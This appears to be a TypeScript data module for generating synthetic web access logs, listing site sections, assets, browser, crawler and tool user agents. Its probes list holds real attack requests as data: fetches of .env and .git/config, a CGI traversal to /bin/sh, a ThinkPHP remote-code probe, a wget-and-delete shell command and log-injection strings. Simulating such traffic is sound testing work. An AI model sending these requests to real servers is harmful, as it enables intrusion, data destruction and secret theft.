/** What a site consists of, who comes to it with what, and what scanners ask for: the words of the access log. */
export const sections = ['news', 'products', 'blog', 'docs', 'about', 'support', 'events', 'press'] as const

export const assets = [
  '/static/css/main.4f2a91.css',
  '/static/js/app.81cc02.js',
  '/static/js/vendor.77be10.js',
  '/static/img/logo.svg',
  '/static/fonts/inter-regular.woff2',
  '/static/img/hero-1920.webp',
  '/favicon.ico',
  '/static/img/icons/search.svg',
  '/static/img/team-photo-2025.jpg',
  '/static/js/analytics.js',
] as const

export const browsers = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0',
] as const

export const crawlers = [
  'Mozilla/5.0 (compatible; ExampleIndexBot/2.1; +http://index.example/bot.html)',
  'Mozilla/5.0 (compatible; ExampleSearch/1.0; +http://search.example/crawler)',
  'ExampleFeedFetcher/3.2 (+http://feeds.example/)',
] as const

/** Requests of scanners that ask about nobody. */
export const probes = [
  'GET /.env HTTP/1.1',
  'GET /.git/config HTTP/1.1',
  'GET /wp-content/plugins/wp-file-manager/readme.txt HTTP/1.1',
  'POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1',
  'GET /phpmyadmin/index.php HTTP/1.1',
  'GET /wp-login.php HTTP/1.1',
  'GET /index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array HTTP/1.1',
  '\\x16\\x03\\x01\\x00\\xEE\\x01\\x00\\x00\\xEA\\x03\\x03',
  'GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/x.sh HTTP/1.1',
  'GET /\\x22 203.0.113.1 - root [05/Mar/2026:02:10:00 +0000] \\x22GET / HTTP/1.1\\x22 200 1 HTTP/1.1',
] as const

export const tools = [
  'python-requests/2.31.0',
  'curl/8.5.0',
  'Go-http-client/1.1',
  '-',
  'Mozilla/5.0 zgrab/0.x',
  '\\x22 203.0.113.1 - root [05/Mar/2026:02:10:00 +0000] \\x22GET / HTTP/1.1\\x22 200 1',
] as const
